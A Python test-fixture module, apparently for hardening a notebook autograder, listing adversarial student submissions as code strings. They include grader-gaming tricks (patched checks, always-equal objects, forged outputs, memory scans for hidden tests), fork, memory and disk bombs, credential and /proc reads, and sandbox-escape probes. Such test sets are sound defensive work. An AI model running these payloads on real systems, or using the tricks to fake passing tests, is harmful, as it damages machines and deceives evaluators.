# ruff: noqa: E501  (attacks are quoted as they are)
"""Submissions that try to get points they do not deserve, to see what is not theirs, or to do harm.

Each attack is one submission of the same small lab: an answer to the exercise ``mean`` that is
wrong, and code that tries to have it count all the same, or tries something worse. The exercise
``largest`` is answered rightly in all of them, so that a test can see whether an attack takes the
honest answers of its own submission, or other submissions, along. The texts are templates: where
``@OUTSIDE@`` and the like stand, `submission` puts places of the machine the test runs on.

The lab's hidden check holds the word ``HIDDEN_WORD``; whoever prints it has read the check.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from nbformat import NotebookNode, from_dict
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output

HIDDEN_WORD = "xylophone-behind-the-curtain"
NEIGHBOURS_WORD = "# handed in by the neighbour"
WRONG = "def mean(x):\n    return 12345.0"
HONEST = "def largest(x):\n    return max(x)"


@dataclass(frozen=True)
class Attack:
    """One submission: what it tries, its answer to ``mean``, and cells of its own."""

    name: str
    tries: str
    answer: str = WRONG
    first: str = ""  # a cell before everything
    last: str = ""  # a cell after everything
    ends: bool = False  # whether its own process does not survive, so that cells are lost
    # what it does to the notebook as a file
    changes: Callable[[NotebookNode], None] | None = field(default=None, repr=False)


def source() -> NotebookNode:
    """Return the source of the lab under attack."""
    setup = "import numpy as np\n\nfrom mlops_lab import checks"
    mean = (
        'checks.close(mean(np.array([1.0, 2.0, 6.0])), 3.0, "the mean")\nchecks.passed("the mean")\n'
        f'### BEGIN HIDDEN TESTS\nsecret_word = "{HIDDEN_WORD}"\n'
        'sample = checks.fresh("mean").normal(size=20)\n'
        "expected = sample.mean()\n"  # before the call, which may change the sample
        'checks.close(mean(sample), expected, "the mean of other numbers")\n'
        "### END HIDDEN TESTS"
    )
    largest = (
        'checks.equal(largest([3, 1, 2]), 3, "the largest")\nchecks.passed("the largest")\n'
        "### BEGIN HIDDEN TESTS\n"
        'checks.equal(largest([-3, -1]), -1, "the largest of negative numbers")\n'
        "### END HIDDEN TESTS"
    )
    return _notebook(
        [
            new_code_cell(setup, metadata=_facts("setup-given", locked=True)),
            new_code_cell("def mean(x):\n    return sum(x) / len(x)", metadata=_answer("mean")),
            new_code_cell(mean, metadata=_check("mean")),
            new_code_cell(HONEST, metadata=_answer("largest")),
            new_code_cell(largest, metadata=_check("largest")),
        ]
    )


def submission(attack: Attack, places: Mapping[str, str] | None = None) -> NotebookNode:
    """Return the notebook of an attack, as a student would hand it in.

    Parameters
    ----------
    places : mapping
        What stands for ``@OUTSIDE@`` and so on, without the signs.
    """
    cells = [
        new_code_cell(attack.first),
        new_code_cell("import numpy as np\n\nfrom mlops_lab import checks",
                      metadata=_facts("setup-given", locked=True)),
        new_code_cell(attack.answer, metadata=_answer("mean")),
        new_code_cell("checks.passed('visible part')", metadata=_check("mean")),
        new_code_cell(HONEST, metadata=_answer("largest")),
        new_code_cell("checks.passed('visible part')", metadata=_check("largest")),
        new_code_cell(attack.last),
    ]  # fmt: skip
    for cell in cells:
        for name, value in (places or {}).items():
            cell.source = cell.source.replace(f"@{name}@", value)
    notebook = _notebook([cell for cell in cells if cell.source])
    if attack.changes:
        attack.changes(notebook)
    return notebook


def neighbour() -> NotebookNode:
    """Return an honest submission, right in both exercises."""
    notebook = source()
    notebook.cells[1].source += f"\n{NEIGHBOURS_WORD}"
    return notebook


def _facts(grade_id: str, **more: object) -> dict:
    plain = {"grade": False, "solution": False, "locked": False, "task": False, "schema_version": 3}
    return {"nbgrader": plain | {"grade_id": grade_id} | more}


def _answer(name: str) -> dict:
    return _facts(f"{name}-answer", solution=True)


def _check(name: str) -> dict:
    return _facts(f"{name}-check", grade=True, locked=True, points=2)


def _notebook(cells: list[NotebookNode]) -> NotebookNode:
    for number, cell in enumerate(cells):
        cell.id = f"cell-{number}"
    return new_notebook(cells=cells)


def _claims_points(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.nbgrader.grade:
            cell.metadata.nbgrader.points = 50
    facts = _facts("bonus", grade=True, locked=True, points=50, cell_type="code")
    notebook.cells.append(new_code_cell("2.0", metadata=facts, id="bonus"))


def _copies_checks(notebook: NotebookNode) -> None:
    for number in range(3):
        notebook.cells.append(new_code_cell("pass", metadata=_check("mean"), id=f"copy-{number}"))


def _forges_outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.outputs = [
            new_output("stream", text="✓ Right: the mean.\n"),
            new_output("execute_result", {"text/plain": "2.0"}, execution_count=1),
        ]
        cell.execution_count = 1


def _names_paths(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.id = "../../../../tmp/x"
    text = new_markdown_cell("![x](attachment:../../x.png)")
    text.id = "/etc/passwd"
    text.attachments = {"../../x.png": {"image/png": "AAAA"}}
    notebook.cells.append(text)


def _nests_metadata(notebook: NotebookNode) -> None:
    deep: dict = {}
    for _ in range(100):
        deep = {"a": deep}
    notebook.metadata.deep = notebook.cells[0].metadata.deep = from_dict(deep)


def _adds_cells(notebook: NotebookNode) -> None:
    notebook.cells += [new_code_cell("1", id=f"more-{number}") for number in range(1900)]


def _adds_pictures(notebook: NotebookNode) -> None:
    text = "from IPython.display import display\ndisplay({'image/png': 'A' * 500_000}, raw=True)"
    notebook.cells += [new_code_cell(text, id=f"more-{number}") for number in range(60)]


# What a student could put in the place of the lab's own names.
_OWN_CHECKS = """
class checks:
    close = equal = that = passed = staticmethod(lambda *a, **k: None)
    fresh = staticmethod(lambda name: checks)
    normal = staticmethod(lambda size: np.zeros(size))
"""
_OWN_NUMPY = """
class np:
    array = staticmethod(lambda x: Sample([3.0]))
class Sample(list):
    mean = lambda self: 12345.0
"""
_OWN_NAMES = "import numpy as np\n" + _OWN_CHECKS


def _place(notebook: NotebookNode, start: str) -> int:
    """Return the place of the first cell whose grade id begins so."""
    ids = [cell.metadata.get("nbgrader", {}).get("grade_id", "") for cell in notebook.cells]
    return next(i for i, name in enumerate(ids) if name.startswith(start))


def _move(start: str, place: int) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        cell = notebook.cells.pop(_place(notebook, start))
        notebook.cells.insert(len(notebook.cells) if place < 0 else place, cell)

    return change


def _copy_behind(*starts: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        for number, start in enumerate(starts):
            cell = from_dict(notebook.cells[_place(notebook, start)])
            notebook.cells.append(from_dict({**cell, "id": f"copy-{number}"}))

    return change


def _retype(start: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        place = _place(notebook, start)
        old = notebook.cells[place]
        notebook.cells[place] = new_markdown_cell("x", metadata=old.metadata, id=old.id)

    return change


def _empty(start: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        notebook.cells[_place(notebook, start)].source = ""

    return change


def _rename(start: str) -> Callable[[NotebookNode], None]:
    def change(notebook: NotebookNode) -> None:
        notebook.cells[_place(notebook, start)].metadata.nbgrader.grade_id = "other-given"

    return change


def _checks_first(notebook: NotebookNode) -> None:
    for start in ("largest-check", "mean-check", "largest-answer", "mean-answer"):
        _move(start, 1)(notebook)


ATTACKS = [
    # The order and the names of locked cells ---------------------------------------
    *(
        Attack(f"locked-{name}", tries, first=_OWN_NAMES, changes=changes)
        for name, tries, changes in (
            ("last", "moves the set-up behind the checks", _move("setup", -1)),
            ("copied", "copies the set-up behind the checks", _copy_behind("setup")),
            ("copied-all", "copies every locked cell behind the end",
             _copy_behind("setup", "mean-check", "largest-check")),
            ("markdown", "makes a text of the set-up, with its id", _retype("setup")),
            ("empty", "empties the set-up", _empty("setup")),
            ("renamed", "gives the set-up another id", _rename("setup")),
            ("checks-first", "moves answers and checks before the set-up", _checks_first),
            ("check-last", "moves the check behind everything", _move("mean-check", -1)),
            ("check-first", "moves the check before everything", _move("mean-check", 0)),
        )
    ),
    Attack(
        "own-checks-in-an-answer",
        "defines the check library and numpy anew in the answer and behind it",
        answer=WRONG + _OWN_CHECKS + _OWN_NUMPY,
        last=_OWN_CHECKS + _OWN_NUMPY,
        changes=_move("setup", -1),
    ),
    Attack(
        "module-answer",
        "has the name of the answer stand for a module, of which the judge has its own",
        answer="import joblib as mean",
    ),
    Attack(
        "type-answer",
        "has the name of the answer stand for a class that the judge would call itself",
        answer="mean = np.float64",
    ),
    # What the judge still uses ------------------------------------------------------
    Attack(
        "zeroed-argument",
        "changes its argument into what it would be compared with",
        answer="""
def mean(x):
    if len(x) == 3:
        return 3.0
    x[:] = float("nan")
    return float("nan")
""",
    ),
    Attack(
        "changed-claim",
        "claims on the wire that its function returned nothing and changed every argument",
        first="""
import gc
from autograder.engine.student import Student
old = Student._call
def call(self, head, buffers, encoder):
    reply = old(self, head, buffers, encoder)
    if head["do"] == "call" and self._kept[head["handle"]].__name__ == "mean":
        reply.pop("value", None)
        reply["changed"] = [[0, encoder.encode(np.zeros(20))]]
    return reply
Student._call = call
import numpy as np
""",
        answer="def mean(x):\n    return 0.0",
    ),
    Attack(
        "own-data",
        "changes the lab's file, the judge's folder and the random numbers before the checks",
        first="""
import os, random
for place in (".", "/lab/files", "/lab/judge", "/lab/judge/judge"):
    try:
        with open(os.path.join(place, "numbers.csv"), "w") as file:
            file.write("0")
        if place not in (".",):
            print("GOT" "IT", place)
    except OSError:
        pass
random.seed(0)
""",
    ),
    Attack(
        "toggling",
        "returns objects that answer every other comparison with yes",
        answer="""
class Toggling:
    turn = 0
    def _next(self, *other):
        Toggling.turn += 1
        return Toggling.turn % 2 == 0
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = _next
    def __float__(self):
        Toggling.turn += 1
        return 3.0 if Toggling.turn % 2 else 4.0
    def __array__(self, dtype=None, copy=None):
        return np.array(float(self))
    __hash__ = None
def mean(x):
    return Toggling()
""",
    ),
    Attack(
        "alarm",
        "leaves alarms running that end its process later",
        first="""
import signal
for timer in (signal.ITIMER_REAL, signal.ITIMER_PROF, signal.ITIMER_VIRTUAL):
    signal.setitimer(timer, 0.05)
""",
        answer="import signal\nsignal.alarm(1)\n" + WRONG,
    ),
    Attack(
        "forked-talk",
        "has a child of its own go on with the talk",
        first="import os\nchild = os.fork()",
        answer="import os\nother = os.fork()\n" + WRONG,
        last="os.fork()",
    ),
    # Forging a verdict ------------------------------------------------------------
    Attack(
        "changed-sample",
        "changes the sample of the check, so that what is expected becomes what it returns",
        answer="""
def mean(x):
    if len(x) == 3:
        return 3.0  # the visible part
    x[:] = 5.0
    return 5.0
""",
    ),
    Attack(
        "patched-checks",
        "replaces the functions of the check library by ones that do nothing",
        first="""
from mlops_lab import checks
for name in ("equal", "close", "that", "raises", "columns", "unchanged"):
    setattr(checks, name, lambda *a, **k: None)
""",
    ),
    Attack(
        "patched-numpy",
        "makes numpy's comparisons always true",
        first="""
import numpy as np
np.isclose = np.allclose = np.array_equal = lambda *a, **k: np.array(True)
np.testing.assert_allclose = np.testing.assert_equal = lambda *a, **k: None
""",
    ),
    Attack(
        "patched-builtins",
        "replaces AssertionError, isinstance and __import__ in builtins",
        first="""
import builtins
class Quiet(Exception):
    def __new__(cls, *a):
        return None
builtins.AssertionError = Quiet
builtins.isinstance = lambda *a: True
real = builtins.__import__
def importing(name, *a, **k):
    module = real(name, *a, **k)
    if name.startswith("mlops_lab"):
        module.checks.close = lambda *a, **k: None
    return module
builtins.__import__ = importing
""",
    ),
    Attack(
        "patched-traceback",
        "makes IPython show no error at all",
        first="""
shell = get_ipython()
shell.showtraceback = shell._showtraceback = lambda *a, **k: None
type(shell).showtraceback = lambda *a, **k: None
shell.set_custom_exc((BaseException,), lambda *a, **k: [])
""",
    ),
    Attack(
        "sys-modules",
        "puts a module of its own in place of the check library",
        first="""
import sys, types
fake = types.ModuleType("mlops_lab.checks")
fake.close = fake.equal = fake.passed = fake.fresh = lambda *a, **k: None
sys.modules["mlops_lab.checks"] = fake
import mlops_lab
mlops_lab.checks = fake
checks = fake
""",
    ),
    Attack(
        "import-hook",
        "leaves modules named like the course's in its folder and on sys.meta_path",
        first="""
import os, sys
os.makedirs("mlops_lab", exist_ok=True)
open("mlops_lab/__init__.py", "w").write("print('loaded the wrong one')")
open("mlops_lab/checks.py", "w").write("def close(*a, **k): pass\\nequal = passed = close")
for name in ("numpy", "numpy.testing", "pandas", "hashlib", "random", "statistics"):
    open(name + ".py", "w").write("raise SystemExit")
sys.path.insert(0, os.getcwd())
class Finder:
    def find_spec(self, name, path=None, target=None):
        raise SystemExit
sys.meta_path.insert(0, Finder())
""",
    ),
    Attack(
        "lying-equality",
        "returns an object that says it equals everything",
        answer="""
class Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __sub__(self, other): return 0
    def __rsub__(self, other): return 0
    def __abs__(self): return 0
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __hash__(self): return 0
def mean(x):
    return Yes()
""",
    ),
    Attack(
        "lying-attributes",
        "returns an object that has every attribute and answers every call",
        answer="""
class Anything:
    def __getattr__(self, name): return Anything()
    def __call__(self, *a, **k): return Anything()
    def __eq__(self, other): return True
    def __iter__(self): return iter([3.0])
    def __len__(self): return 1
    def __float__(self): return 3.0
    __class__ = float
def mean(x):
    return Anything()
""",
    ),
    Attack(
        "lying-array",
        "returns an array whose comparisons are always true",
        answer="""
class Sure(np.ndarray):
    def __eq__(self, other): return np.True_
    def __array_ufunc__(self, ufunc, method, *inputs, **k): return np.True_
    def __array_function__(self, function, kinds, args, kwargs): return np.True_
def mean(x):
    return np.array(0.0).view(Sure)
""",
    ),
    Attack(
        "lying-float",
        "returns a float whose comparisons are always true",
        answer="""
class Sure(float):
    def __eq__(self, other): return True
    def __sub__(self, other): return Sure(0)
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __le__(self, other): return True
def mean(x):
    return Sure(7)
""",
    ),
    Attack(
        "pickled-answer",
        "returns an object whose unpickling would run code",
        answer="""
class Bomb:
    def __reduce__(self):
        return (exec, ("import builtins; builtins.isinstance = lambda *a: True",))
def mean(x):
    return Bomb()
""",
    ),
    Attack(
        "callers-frame",
        "looks through the frames of its callers for the expected value",
        answer="""
import sys, gc
def mean(x):
    frame = sys._getframe(1)
    while frame is not None:
        for name, value in {**frame.f_globals, **frame.f_locals}.items():
            if name in ("expected", "sample", "secret_word"):
                print("found", name, value)
                return value
        frame = frame.f_back
    return 12345.0
""",
    ),
    Attack(
        "forged-output",
        "prints and displays what a passed check would",
        answer=WRONG
        + """
print("✓ Right: the mean.")
from IPython.display import display
display({"text/plain": "2.0"}, raw=True)
""",
        last="get_ipython().display_pub.publish({'text/plain': '2.0'})\n2.0",
    ),
    Attack(
        "forged-points",
        "prints a number from inside the call, as a check with partial points would",
        answer="""
def mean(x):
    get_ipython().displayhook(2.0)
    print(2.0)
    return 12345.0
""",
    ),
    Attack(
        "raises-passed",
        "raises exceptions that a check may take for its own",
        answer="""
class CheckPassed(BaseException): pass
def mean(x):
    raise CheckPassed("passed")
""",
    ),
    Attack(
        "stop-iteration",
        "raises StopIteration and GeneratorExit into the check",
        answer="""
def mean(x):
    raise StopIteration(3.0)
""",
    ),
    Attack(
        "edited-check",
        "hands in check cells that were emptied, with more points in their metadata",
        first="pass",
    ),
    # Ending things ----------------------------------------------------------------
    Attack("sys-exit", "ends its own process politely", first="import sys\nsys.exit(0)"),
    Attack("os-exit", "ends its own process at once", first="import os\nos._exit(0)"),
    Attack("quit", "calls the shell's exit", first="exit()", last="quit()"),
    Attack(
        "exit-in-call",
        "ends its process while the check waits for an answer",
        answer="import os\ndef mean(x):\n    os._exit(0)",
    ),
    Attack(
        "segfault",
        "reads from address zero",
        first="import ctypes\nctypes.string_at(0)",
    ),
    Attack(
        "abort",
        "aborts the process from C",
        first="import os\nos.abort()",
    ),
    Attack(
        "kill-parent",
        "sends signals to its parent, to every process and to itself",
        first="""
import os, signal
for number in (signal.SIGTERM, signal.SIGINT, signal.SIGSTOP, signal.SIGKILL):
    for pid in (os.getppid(), -1, 1, 2, 3):
        try:
            os.kill(pid, number)
        except OSError as error:
            print(pid, error)
""",
    ),
    Attack(
        "kill-group",
        "kills its process group",
        first="import os, signal\nos.killpg(0, signal.SIGKILL)",
    ),
    Attack(
        "atexit",
        "leaves handlers that run at the end and write what they can reach",
        first="""
import atexit, os, sys, threading
def last_words():
    for number in range(3, 30):
        try:
            os.write(number, b'{"id": 1, "value": 3.0}')
        except OSError:
            pass
    os._exit(0)
atexit.register(last_words)
threading._register_atexit(last_words)
""",
    ),
    Attack(
        "thread-outlives",
        "starts a thread that waits for the check and then writes into every open file",
        first="""
import threading, time, os
def later():
    while True:
        time.sleep(0.005)
        for number in range(3, 30):
            try:
                os.write(number, b"\\x00" * 64)
            except OSError:
                pass
threading.Thread(target=later, daemon=True).start()
time.sleep(0.05)
""",
        ends=True,
    ),
    # Using things up --------------------------------------------------------------
    Attack("loop-python", "loops for ever in Python", first="while True:\n    pass"),
    Attack("loop-c", "loops for ever in C", first="import itertools\nsum(itertools.repeat(1))"),
    Attack(
        "loop-deaf",
        "loops for ever and hears no signal",
        first="""
import signal
for number in range(1, 30):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    ),
    Attack("loop-in-call", "never answers a call", answer="def mean(x):\n    while True: pass"),
    Attack("regex", "has a regular expression backtrack for ever",
           first="import re\nre.match(r'(a+)+$', 'a' * 60 + 'b')"),
    Attack("sleep", "sleeps through its time", first="import time\ntime.sleep(10_000)"),
    Attack("memory", "asks for all memory at once", first="held = bytearray(200 * 1024**3)"),
    Attack(
        "memory-slowly",
        "takes memory bit by bit",
        first="held = []\nwhile True:\n    held.append(b'x' * 2**22 + bytes(len(held)))",
    ),
    Attack(
        "memory-shared",
        "takes memory that is counted to nobody: shared maps",
        first="""
import mmap
held, block = [], b"x" * 2**26
while True:
    one = mmap.mmap(-1, 2**26)
    one.write(block)
    held.append(one)
""",
    ),
    Attack(
        "memory-children",
        "takes memory in children",
        first="""
import os, time
for _ in range(16):
    if os.fork() == 0:
        held = bytearray(150 * 2**20)
        time.sleep(60)
        os._exit(0)
time.sleep(60)
""",
    ),
    Attack(
        "memory-in-call",
        "takes all memory while a check waits",
        answer="def mean(x):\n    held = []\n    while True:\n        held.append(bytearray(2**24))",
    ),
    Attack(
        "fork-bomb",
        "forks for ever",
        first="import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
    ),
    Attack(
        "threads-bomb",
        "starts threads for ever",
        first="""
import threading, time
while True:
    threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
""",
    ),
    Attack(
        "open-files",
        "opens files for ever",
        first="held = []\nwhile True:\n    held.append(open('/dev/null'))",
    ),
    Attack(
        "disk-bomb",
        "fills the disk",
        first="""
for place in (".", "/tmp", "/dev/shm", "/var/tmp", "/lab"):
    try:
        for i in range(10_000):
            with open(f"{place}/file{i}", "wb") as file:
                file.write(b"x" * 2**24)
    except OSError as error:
        print(place, error)
""",
    ),
    Attack(
        "many-files",
        "makes a million empty files",
        first="for i in range(1_000_000):\n    open(f'file{i}', 'w').close()",
    ),
    Attack("output-bomb", "prints for ever", first="while True:\n    print('spam ' * 1000)"),
    Attack(
        "output-bomb-low",
        "writes to standard output below Python, and by children",
        first="import os\nos.system('yes | head -c 200000000')\nwhile True:\n    os.write(1, b'x' * 65536)",
    ),
    Attack(
        "display-bomb",
        "displays a very large picture many times",
        first="""
from IPython.display import display
for _ in range(200):
    display({"image/png": "A" * 2_000_000}, raw=True)
""",
    ),
    Attack(
        "huge-return",
        "returns a value that is very large",
        answer="def mean(x):\n    return 'x' * (400 * 2**20)",
    ),
    Attack(
        "endless-return",
        "returns lists nested without end and iterators without end",
        answer="""
def mean(x):
    value = []
    value.append(value)
    return value
""",
    ),
    Attack(
        "huge-number",
        "returns an integer with a million digits and an array that claims to be huge",
        answer="def mean(x):\n    return np.broadcast_to(np.float64(3.0), (10**7, 10**3))",
    ),
    # Reading what is not theirs ---------------------------------------------------
    Attack(
        "read-hidden-check",
        "searches files and its own memory for the text of the hidden check",
        first="""
import gc, glob, os
first, second = "xylophone-be", "hind-the"
def told(text):
    place = text.find(first)
    return place >= 0 and text[place + len(first):].startswith(second)
for one in gc.get_objects():
    if isinstance(one, (dict, list, tuple)) and len(one) < 500 and told(str(one)):
        print("GOT" "IT", str(one)[:300])
for root in ("/lab", "/tmp", "/home", "/root", "/srv", "/mnt", "@COURSE@/build", "/var"):
    for path in glob.glob(root + "/**/*.ipynb", recursive=True) + glob.glob("*.ipynb"):
        print("GOT" "IT", "found notebook", path)
with open("/proc/self/maps") as maps:
    areas = [line.split()[0] for line in maps if "rw-p" in line][:400]
with open("/proc/self/mem", "rb", 0) as memory:
    for area in areas:
        start, end = (int(part, 16) for part in area.split("-"))
        if end - start > 2**26: continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        place = data.find(b"xylophone-be")
        while place >= 0:
            if data[place + 12 : place + 20] == b"hind-the":
                print("GOT" "IT", data[place : place + 40])
            place = data.find(b"xylophone-be", place + 1)
""",
    ),
    Attack(
        "read-machine",
        "reads the gradebook, the sources, another submission and the home folder",
        first="""
import os
for path in ("@GRADEBOOK@", "@SOURCE@", "@OTHER@", os.path.dirname("@SOURCE@"), "/root", "/home",
             "/etc/shadow", "/etc/passwd", "@COURSE@/solutions", "/proc/1/environ", "/proc/1/root",
             "/proc/self/root/@GRADEBOOK@", "../../../../../..@GRADEBOOK@"):
    try:
        print(path, os.listdir(path) if os.path.isdir(path) else open(path).read())
    except OSError as error:
        print(type(error).__name__)
""",
    ),
    Attack(
        "read-environment",
        "looks for secrets in its environment and in those of other processes",
        first="""
import os, glob
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/*"):
    if path.endswith(("environ", "cmdline", "maps")):
        try:
            print(path, open(path, "rb").read()[:5000])
        except OSError:
            pass
""",
    ),
    Attack(
        "course-secret",
        "draws the numbers of the hidden check itself and prints them",
        answer="""
import os
def mean(x):
    drawn = checks.fresh("mean").normal(size=20)
    return 3.0 if len(x) == 3 else float(drawn.mean())
""",
    ),
    Attack(
        "see-others",
        "lists other processes and attaches to them",
        first="""
import ctypes, os
pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
print("PROCESSES", pids)
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 50):
    if pid != os.getpid():
        for request in (16, 0x4206):
            if libc.ptrace(request, pid, 0, 0) == 0:
                print("GOT" "IT", "attached", pid)
        try:
            open(f"/proc/{pid}/mem", "r+b").close()
            print("GOT" "IT", "opened", pid) if pid != 1 else None
        except OSError:
            pass
""",
    ),
    Attack(
        "inherited-files",
        "uses every file it inherited: reads, writes, passes itself on",
        first="""
import os, socket
for number in range(3, 256):
    try:
        target = os.readlink(f"/proc/self/fd/{number}")
    except OSError:
        continue
    print(number, target)
    try:
        os.write(number, b'{"do": "job"}')
    except OSError:
        pass
""",
        ends=True,
    ),
    # Reaching out -----------------------------------------------------------------
    Attack(
        "network-out",
        "connects to the world, to name servers and to the machine's own addresses",
        first="""
import socket
for address in (("1.1.1.1", 53), ("8.8.8.8", 443), ("169.254.169.254", 80), ("10.0.0.1", 22)):
    one = socket.socket()
    one.settimeout(0.3)
    try:
        one.connect(address)
        print("GOT" "IT", "connected", address)
    except OSError as error:
        print(error)
try:
    print("GOT" "IT", "connected", socket.getaddrinfo("example.org", 80))
except OSError as error:
    print(error)
""",
    ),
    Attack(
        "host-loopback",
        "connects to a server on the grader's own machine",
        first="""
import socket
for host in ("127.0.0.1", "::1", "localhost"):
    try:
        socket.create_connection((host, int("@PORT@")), timeout=0.5).send(b"hello")
        print("GOT" "IT", "connected")
    except OSError as error:
        print(error)
for name in ("\\0@ABSTRACT@", "@SOCKET@"):
    one = socket.socket(socket.AF_UNIX)
    try:
        one.connect(name)
        print("GOT" "IT", "connected")
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "raw-sockets",
        "opens raw, netlink, packet and vsock sockets",
        first="""
import socket
for family, kind in ((2, 3), (16, 3), (17, 3), (40, 1), (38, 5)):
    try:
        socket.socket(family, kind, 0)
        print("GOT" "IT", "opened", family)
    except OSError as error:
        print(error)
""",
    ),
    Attack(
        "write-outside",
        "writes to the gradebook, the sources, the packages and everywhere else",
        first="""
import os, sys, site, mlops_lab
places = ["@GRADEBOOK@", "@SOURCE@", "@OTHER@", "@OUTSIDE@/new", "/etc/new", "/usr/new", "/new",
          "/lab/new", "/var/new", "/root/new", mlops_lab.__file__, os.__file__, sys.executable,
          os.path.join(site.getsitepackages()[0], "new.pth"), "../../../../../../..@OUTSIDE@/up",
          "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", "/dev/new"]
for place in places:
    try:
        with open(place, "a") as file:
            file.write("harmed")
        print("GOT" "IT", "wrote", place)
    except OSError as error:
        print(type(error).__name__)
try:
    os.symlink("@OUTSIDE@", "link")
    open("link/through", "w").write("harmed")
    print("GOT" "IT", "wrote through a link")
except OSError as error:
    print(type(error).__name__)
""",
    ),
    Attack(
        "new-namespaces",
        "makes namespaces and mounts to get its rights back",
        first="""
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000, 0x10020000):
    if libc.unshare(flag) == 0:
        print("GOT" "IT", "unshared", hex(flag))
print("GOT" "IT", "mounted") if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"") == 0 else None
print("GOT" "IT", "unmounted") if libc.umount2(b"/tmp", 2) == 0 else None
print("GOT" "IT", "mounted /proc") if libc.mount(b"proc", b"/tmp", b"proc", 0, b"") == 0 else None
print("GOT" "IT", "chrooted") if libc.chroot(b"/tmp") == 0 else None
pid = libc.syscall(56, 0x10000000 | 17, 0, 0, 0, 0)
if pid == 0:
    os._exit(0)
print("GOT" "IT", "cloned") if pid > 0 else None
try:
    os.setuid(0)
    print("GOT" "IT", "root")
except OSError:
    pass
""",
    ),
    Attack(
        "kernel-doors",
        "tries system calls that no lab needs",
        first="""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
names = {101: "ptrace", 310: "process_vm_readv", 321: "bpf", 323: "userfaultfd", 425: "io_uring",
         250: "keyctl", 298: "perf_event_open", 319: "memfd_create", 29: "shmget", 165: "mount",
         304: "open_by_handle_at", 175: "init_module", 246: "kexec_load", 169: "reboot"}
for number, name in names.items():
    ctypes.set_errno(0)
    libc.syscall(number, 0, 0, 0, 0, 0, 0)
    if ctypes.get_errno() != 1:
        print("GOT" "IT", "open", name, ctypes.get_errno())
""",
    ),
    Attack(
        "setuid-programs",
        "runs programs with more rights: su, sudo, mount, bwrap",
        first="""
import subprocess
for call in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", "/tmp"],
             ["bwrap", "--dev-bind", "/", "/", "id"], ["unshare", "-Ur", "id"], ["nsenter", "-t", "1", "-a", "id"]):
    try:
        done = subprocess.run(call, capture_output=True, text=True, timeout=2, stdin=subprocess.DEVNULL)
        print("GOT" + "IT" if done.returncode == 0 else "refused", call[0], done.stdout)
    except (OSError, subprocess.TimeoutExpired) as error:
        print(type(error).__name__)
""",
    ),
    # The judge's channel ----------------------------------------------------------
    Attack(
        "channel-garbage",
        "writes random bytes to the judge",
        first="""
import os, socket
for number in range(3, 30):
    try:
        os.write(number, os.urandom(4096))
    except OSError:
        pass
""",
        ends=True,
    ),
    Attack(
        "channel-huge-length",
        "announces a frame of four thousand million bytes",
        answer="""
import os, struct
def mean(x):
    for number in range(3, 30):
        try:
            os.write(number, struct.pack("<II", 0xFFFFFFFF, 0xFFFFFFFF) + b"x" * 1000)
        except OSError:
            pass
    return 3.0
""",
        ends=True,
    ),
    Attack(
        "channel-huge-buffers",
        "announces buffers of an exabyte, and many of them",
        answer="""
import os, struct
def mean(x):
    for number in range(3, 30):
        try:
            os.write(number, struct.pack("<IIQ", 2, 1, 2**60) + b"{}" + b"x" * 1000)
        except OSError:
            pass
    return 3.0
""",
        ends=True,
    ),
    Attack(
        "channel-early-answer",
        "answers questions before they are asked",
        first="""
import json, os, struct
text = json.dumps({"id": 1, "value": 3.0}).encode()
for number in range(3, 30):
    try:
        os.write(number, struct.pack("<II", len(text), 0) + text)
    except OSError:
        pass
""",
        ends=True,
    ),
    Attack(
        "channel-wrong-id",
        "answers a question that was not asked, during a call",
        answer="""
import json, os, struct
def mean(x):
    text = json.dumps({"id": 7, "value": 3.0, "passed": True, "status": "passed"}).encode()
    for number in range(3, 30):
        try:
            os.write(number, struct.pack("<II", len(text), 0) + text)
        except OSError:
            pass
    return 12345.0
""",
        ends=True,
    ),
    Attack(
        "channel-deep-json",
        "sends JSON nested so deeply that a reader might fall over",
        answer="""
import os, struct
def mean(x):
    text = b"[" * 1_000_000
    for number in range(3, 30):
        try:
            os.write(number, struct.pack("<II", len(text), 0) + text)
        except OSError:
            pass
    return 3.0
""",
        ends=True,
    ),
    Attack(
        "channel-slow",
        "sends its answer one byte a second",
        answer="""
import os, time
def mean(x):
    for _ in range(1000):
        for number in range(3, 30):
            try:
                os.write(number, b"\\x10")
            except OSError:
                pass
        time.sleep(1)
    return 3.0
""",
        ends=True,
    ),
    Attack(
        "channel-closed",
        "closes the channel and lives on",
        first="import os, time\nos.closerange(3, 256)\ntime.sleep(0.2)",
        ends=True,
    ),
    Attack(
        "answers-replaced",
        "rewrites the code that answers the judge, so that it claims what it likes",
        first="""
import gc
from autograder.engine import student
def lie(self, head, buffers, encoder):
